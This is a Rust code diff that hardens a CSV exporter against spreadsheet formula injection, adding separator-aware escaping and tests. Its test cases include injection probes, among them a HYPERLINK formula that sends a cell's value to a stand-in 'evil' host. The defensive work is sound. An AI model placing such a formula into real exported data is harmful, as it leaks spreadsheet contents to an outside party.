@@ -22,7 +22,7 @@ impl Sheet for Csv {
     fn row(&mut self, cells: Vec<Cell>) -> Result<(), Problem> {
         let fields = cells.into_iter().map(|cell| match cell {
             Cell::Empty => String::new(),
-            Cell::Text(text) => harmless(text),
+            Cell::Text(text) => harmless(&text),
             Cell::Instant(wall) => wall.format("%Y-%m-%d %H:%M:%S").to_string(),
         });
         self.0.write_record(fields).map_err(|error| unwritten(&error))
@@ -35,9 +35,27 @@ impl Sheet for Csv {
     }
 }
 
-/// A cell that begins like this is taken for a formula, whose author may be anyone who wrote into a request.
-fn harmless(text: String) -> String {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text }
+/// What begins a formula, whose author may be anyone who wrote into a request.
+const BEGINS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// What parts cells where the list separator is another, or where a quotation mark is not understood.
+const PARTS: [char; 6] = [';', ',', '|', '\t', '\r', '\n'];
+
+/// A text of which no part is a formula, at whichever separator a spreadsheet parts it. The window's reports do the same
+/// (`ui/src/handover/csv.ts`).
+fn harmless(text: &str) -> String {
+    let mut safe = String::with_capacity(text.len());
+    let mut begins = true;
+    for character in text.chars() {
+        if begins && (BEGINS.contains(&character) || safe.is_empty() && matches!(character, '\t' | '\r' | '\n')) {
+            safe.push('\'');
+        }
+        safe.push(character);
+        // Spreadsheets pass over blanks and quotation marks.
+        begins = PARTS.contains(&character)
+            || begins && matches!(character, ' ' | '"' | '\u{a0}') && !safe.trim().is_empty();
+    }
+    safe
 }
 
 #[cfg(test)]
@@ -46,11 +64,26 @@ mod tests {
 
     #[test]
     fn what_a_spreadsheet_would_calculate_is_text() {
-        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
-            assert_eq!(harmless(formula.to_owned()), format!("'{formula}"));
+        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"] {
+            assert!(harmless(formula).starts_with('\''), "{formula}");
         }
-        for text in ["01900000001", "stb-1", "a=b", "", " =1"] {
-            assert_eq!(harmless(text.to_owned()), text);
+        for text in ["01900000001", "stb-1", "a=b", "", "a - b", "e-mail a@b", "1;2,3|4"] {
+            assert_eq!(harmless(text), text);
+        }
+    }
+
+    #[test]
+    fn no_separator_makes_a_formula_of_a_part() {
+        for text in
+            ["x;=1+1;y", "txt;=HYPERLINK(\"http://evil/?\"&A1)", "a\t+1", "a|@b", "a\n=1", "a, -1", "a;\"=1\"", "a; =1"]
+        {
+            let safe = harmless(text);
+            for separator in PARTS {
+                for part in safe.split(separator) {
+                    let part = part.trim_start_matches([' ', '"']);
+                    assert!(!part.starts_with(BEGINS), "{text:?} at {separator:?}: {safe:?}");
+                }
+            }
         }
     }
 }
